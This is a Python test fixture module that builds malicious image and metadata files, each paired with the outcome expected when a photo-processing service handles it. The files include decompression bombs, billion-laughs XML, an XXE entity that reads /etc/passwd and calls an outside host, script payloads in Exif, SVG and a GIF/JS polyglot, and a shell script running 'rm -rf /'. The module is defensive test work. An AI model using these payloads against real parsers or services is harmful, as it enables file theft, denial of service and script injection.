"""Files that are known to harm who reads photos, and what becomes of each."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from typing import NamedTuple

import numpy as np
from PIL import Image

import images
import metadata_files
import tiff_files
from heif_files import tiled

HARM = b"alert(document.domain)"
"""What no rendition may hold, whatever its original holds."""

_SMALL = images.picture(64, 48)


class Named(NamedTuple):
    """A file, and the ends that are right for it."""

    data: Callable[[], bytes]
    ends: tuple[str, ...] = ("ACTIVE",)


def _png(*before: bytes, picture: Image.Image = _SMALL) -> bytes:
    """A PNG with chunks behind its header."""
    plain = images.saved(picture, "PNG")
    return plain[:33] + b"".join(before) + plain[33:]


@cache
def _deflated(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join([*(packer.compress(bytes(1 << 20)) for _ in range(megabytes)), packer.flush()])


def _deflate_bomb_in_pixels() -> bytes:
    end = images.png_chunk(b"IEND", b"")
    return images.saved(_SMALL, "PNG")[:33] + images.png_chunk(b"IDAT", _deflated(600)) + end


def _deflate_bomb_in_a_strip() -> bytes:
    page = tiff_files.page(np.asarray(_SMALL), tiff_files.RGB)
    entries = {**page.entries, 259: (tiff_files.SHORT, [8]), 278: (tiff_files.SHORT, [48])}
    return tiff_files.file(tiff_files.Page(entries, [_deflated(600)]))


def _strip_of_a_gigabyte() -> bytes:
    return images.saved(_SMALL, "TIFF").replace(struct.pack("<I", 64 * 48 * 3), struct.pack("<I", 1 << 30), 1)


def _pages(number: int) -> bytes:
    page = tiff_files.page(np.asarray(images.picture(8, 8)), tiff_files.RGB)
    return tiff_files.file(*[page] * number)


def _frames(number: int) -> bytes:
    first = images.saved(Image.new("P", (8, 8)), "GIF")
    start = first.index(b"\x2c")
    return first[:start] + first[start:-1] * number + b"\x3b"


def _scans(number: int) -> bytes:
    """A progressive JPEG with its last scan over and over: each is a pass over all the pixels."""
    plain = images.saved(Image.new("L", (4000, 4000)), "JPEG", progressive=True)
    start = plain.rindex(b"\xff\xda")
    return plain[:-2] + plain[start:-2] * number + plain[-2:]


def _archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("run.html", b"<script>" + HARM + b"</script>")
    return buffer.getvalue()


def _with_packet(packet: bytes) -> bytes:
    return metadata_files.jpeg(metadata_files.xmp_segment(packet), picture=_SMALL)


def _laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<!DOCTYPE x [<!ENTITY l0 "ha">{entities}]>'.encode() + metadata_files.xmp(
        elements="<dc:title>&l11;</dc:title>"
    )


def _outside() -> bytes:
    doctype = (
        b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "http://192.0.2.1/d"> %d;]>'
    )
    return doctype + metadata_files.xmp(elements="<dc:title>&f;</dc:title>")


def _loop(link: bool) -> bytes:
    """Exif whose next directory, or the directory of Exif that it names, is itself."""
    entry = struct.pack("<HHII", 0x8769, 4, 1, 8) if not link else struct.pack("<HHIHH", 0x0112, 3, 1, 6, 0)
    block = b"Exif\0\0II*\0" + struct.pack("<IH", 8, 1) + entry + struct.pack("<I", 8 if link else 0)
    return images.saved(_SMALL, "JPEG", exif=block)


def _page_in_exif() -> bytes:
    block = metadata_files.tiff({0x010E: "<script>" + HARM.decode()})
    return images.saved(_SMALL, "JPEG", exif=b"Exif\0\0" + block)


def _script_in_a_gif() -> bytes:
    """A GIF that is a script, too: `GIF89a/*` is an assignment that goes on behind a comment."""
    plain = bytearray(images.saved(Image.new("P", (0x2A2F, 8)), "GIF"))
    assert plain[6:8] == b"/*"
    return bytes(plain) + b"*/=1;" + HARM


NAMED: dict[str, Named] = {
    "a PNG of 65,535 x 65,535": Named(lambda: images.bomb(65_535, 65_535), ("TooManyPixels",)),
    "a deflate bomb in zTXt": Named(lambda: _png(images.png_chunk(b"zTXt", b"Comment\0\0" + _deflated(600)))),
    "a deflate bomb in iCCP": Named(lambda: _png(images.png_chunk(b"iCCP", b"a\0\0" + _deflated(600)))),
    "a deflate bomb in the XMP of iTXt": Named(
        lambda: _png(images.png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + _deflated(600)))
    ),
    "a deflate bomb in the pixels of a PNG": Named(_deflate_bomb_in_pixels, ("ACTIVE", "CorruptFile")),
    "a deflate bomb in a strip": Named(_deflate_bomb_in_a_strip, ("ACTIVE", "CorruptFile")),
    "a strip that claims a gigabyte": Named(_strip_of_a_gigabyte, ("ACTIVE", "TruncatedFile")),
    "a HEIC of 10,000 tiles": Named(lambda: tiled(100), ("TooManyPixels",)),
    "a HEIC of 2,500 tiles": Named(lambda: tiled(50), ("ACTIVE", "TooCostly")),
    "a TIFF of 100,000 pages": Named(lambda: _pages(100_000)),
    "a GIF of 100,000 frames": Named(lambda: _frames(100_000)),
    "a JPEG of 1,000 scans": Named(lambda: _scans(1000), ("ACTIVE", "TooCostly")),
    "a JPEG that is an archive": Named(lambda: images.saved(_SMALL, "JPEG") + _archive()),
    "an archive in a JPEG's comment": Named(
        lambda: metadata_files.jpeg(metadata_files.segment(0xFE, _archive()), picture=_SMALL)
    ),
    "a GIF that is a script": Named(_script_in_a_gif),
    "a page in Exif": Named(
        lambda: images.saved(
            _SMALL, "JPEG", exif=b"Exif\0\0" + metadata_files.tiff({0x010E: "<script>" + HARM.decode()})
        )
    ),
    "a drawing": Named(
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>' + HARM + b"</script></svg>",
        ("UnsupportedFormat",),
    ),
    "a page": Named(lambda: b"<html><script>" + HARM, ("UnsupportedFormat",)),
    "a script": Named(lambda: b"#!/bin/sh\nrm -rf /\n", ("UnsupportedFormat",)),
    "a program": Named(lambda: b"\x7fELF\x02\x01\x01" + bytes(500), ("UnsupportedFormat",)),
    "entities that grow in XMP": Named(lambda: _with_packet(_laughs())),
    "entities from outside in XMP": Named(lambda: _with_packet(_outside())),
    "3,000 elements in one another in XMP": Named(
        lambda: _with_packet(metadata_files.xmp(elements="<a:a xmlns:a='a'>" * 3000))
    ),
    "Exif that follows itself": Named(lambda: _loop(True)),
    "Exif that holds itself": Named(lambda: _loop(False)),
}
